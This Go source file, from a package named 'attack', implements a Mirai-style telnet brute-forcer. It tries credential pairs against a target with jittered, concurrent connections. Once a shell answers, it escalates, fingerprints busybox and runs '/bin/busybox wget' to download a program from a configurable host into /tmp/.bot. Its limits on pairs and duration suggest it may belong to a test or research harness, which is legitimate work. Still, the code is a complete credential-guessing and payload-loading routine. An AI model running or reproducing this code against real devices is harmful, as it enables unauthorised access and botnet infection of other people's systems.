package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"sync"
	"time"
)

// GuessConfig says at whose door to guess.
type GuessConfig struct {
	Seed   uint64         `json:"seed"`
	Target netip.AddrPort `json:"target"`
	Pairs  []Pair         `json:"pairs"` // the last is tried last
	// Every is the time between two connections.
	Every    time.Duration `json:"every"`
	Duration time.Duration `json:"duration"`
	// Fetch is the address of a program to fetch once in; "" = only guess.
	Fetch string `json:"fetch,omitempty"`
}

// GuessResult tells how it went.
type GuessResult struct {
	Tries     uint64    `json:"tries"`
	Connected uint64    `json:"connected"`
	In        bool      `json:"in"`
	User      string    `json:"user,omitempty"` // that opened the door
	First     time.Time `json:"first"`
	InAt      time.Time `json:"inAt,omitzero"`
	Fetched   bool      `json:"fetched"`
	FetchedAt time.Time `json:"fetchedAt,omitzero"`
	Last      time.Time `json:"last"`
	Error     string    `json:"error,omitempty"` // of the last try that broke
}

// maxGuesses is how many connections are open at once; a login that answers
// "incorrect" takes its time.
const maxGuesses = 8

// Guess tries pairs at a telnet door, one connection each, in an order drawn
// from the seed but for the last, and when one opens it, fetches a program.
func Guess(ctx context.Context, c GuessConfig) (GuessResult, error) {
	if !c.Target.IsValid() || len(c.Pairs) == 0 || len(c.Pairs) > 1000 || c.Every <= 0 || c.Duration <= 0 || c.Duration > maxDuration {
		return GuessResult{}, fmt.Errorf("guessing at %s with %d pairs every %s for %s: out of bounds", c.Target, len(c.Pairs), c.Every, c.Duration)
	}
	pairs := append([]Pair(nil), c.Pairs...)
	rng := rand.New(rand.NewPCG(c.Seed, 0x23))
	rng.Shuffle(len(pairs)-1, func(i, j int) { pairs[i], pairs[j] = pairs[j], pairs[i] })
	ctx, cancel := context.WithTimeout(ctx, c.Duration)
	defer cancel()

	g := &guesser{c: c, r: GuessResult{First: time.Now()}}
	room := make(chan struct{}, maxGuesses)
	var wg sync.WaitGroup
	for i, p := range pairs {
		if i > 0 && !pause(ctx, time.Duration(float64(c.Every)*(0.75+rng.Float64()/2))) || g.done() {
			break
		}
		select {
		case room <- struct{}{}:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
		wg.Go(func() {
			defer func() { <-room }()
			g.try(ctx, p)
		})
	}
	wg.Wait()
	g.r.Last = time.Now()
	return g.r, nil
}

type guesser struct {
	c  GuessConfig
	mu sync.Mutex
	r  GuessResult
}

func (g *guesser) done() bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.r.In
}

func (g *guesser) note(f func(r *GuessResult)) {
	g.mu.Lock()
	defer g.mu.Unlock()
	f(&g.r)
}

// errWrong tells that the door said no.
var errWrong = errors.New("login incorrect")

func (g *guesser) try(ctx context.Context, p Pair) {
	g.note(func(r *GuessResult) { r.Tries++ })
	err := g.login(ctx, p)
	if err != nil && !errors.Is(err, errWrong) {
		g.note(func(r *GuessResult) { r.Error = err.Error() })
	}
}

// loginTimeout bounds one try.
const loginTimeout = 12 * time.Second

func (g *guesser) login(ctx context.Context, p Pair) error {
	ctx, cancel := context.WithTimeout(ctx, loginTimeout)
	defer cancel()
	var d net.Dialer
	conn, err := d.DialContext(ctx, "tcp4", g.c.Target.String())
	if err != nil {
		return err
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	g.note(func(r *GuessResult) { r.Connected++ })
	t := &talk{conn: conn}
	if _, err := t.until("ogin: "); err != nil {
		return err
	}
	if err := t.say(p.User); err != nil {
		return err
	}
	if _, err := t.until("assword: "); err != nil {
		return err
	}
	if err := t.say(p.Password); err != nil {
		return err
	}
	got, err := t.until("incorrect", "# ", "$ ")
	if err != nil {
		return err
	}
	if strings.HasSuffix(got, "incorrect") {
		return errWrong
	}
	g.note(func(r *GuessResult) { r.In, r.User, r.InAt = true, p.User, time.Now() })
	if g.c.Fetch == "" {
		return nil
	}
	return g.fetch(t)
}

// token is what tells an attacker that a real shell answers, the way Mirai's
// loader asks: no busybox has an applet of this name.
const token = "RANGE"

// fetch makes the shell fetch the program.
func (g *guesser) fetch(t *talk) error {
	for _, cmd := range []string{"enable", "system", "shell", "sh"} {
		if err := t.say(cmd); err != nil {
			return err
		}
		if _, err := t.until("# ", "$ "); err != nil {
			return err
		}
	}
	if err := t.say("/bin/busybox " + token); err != nil {
		return err
	}
	if _, err := t.until(token+": applet not found", "not found"); err != nil {
		return err
	}
	// The answer is split in the command, so that its echo is not taken for it.
	if err := t.say("/bin/busybox wget " + g.c.Fetch + " -O /tmp/.bot; echo FE''TCHED"); err != nil {
		return err
	}
	got, err := t.until("FETCHED", "not found", "can't")
	if err != nil {
		return err
	}
	if !strings.HasSuffix(got, "FETCHED") {
		return errors.New("the shell could not fetch the program")
	}
	g.note(func(r *GuessResult) { r.Fetched, r.FetchedAt = true, time.Now() })
	return t.say("exit")
}

// talk is the attacker's end of a telnet connection.
type talk struct {
	conn net.Conn
	seen []byte
}

func (t *talk) say(line string) error {
	_, err := t.conn.Write([]byte(line + "\r\n"))
	return err
}

// maxSeen bounds what is kept of the other end's words.
const maxSeen = 16 << 10

// until reads until one of the words comes and returns what came up to its end.
func (t *talk) until(words ...string) (string, error) {
	buf := make([]byte, 1024)
	for {
		if end := t.find(words); end >= 0 {
			got := string(t.seen[:end])
			t.seen = t.seen[end:]
			return got, nil
		}
		if len(t.seen) > maxSeen {
			return "", errors.New("the other end talks without end")
		}
		n, err := t.conn.Read(buf)
		t.seen = append(t.seen, buf[:n]...)
		if err != nil {
			return "", err
		}
	}
}

// find returns where the first of the words ends, or -1.
func (t *talk) find(words []string) int {
	end := -1
	for _, w := range words {
		if i := bytes.Index(t.seen, []byte(w)); i >= 0 && (end < 0 || i+len(w) < end) {
			end = i + len(w)
		}
	}
	return end
}
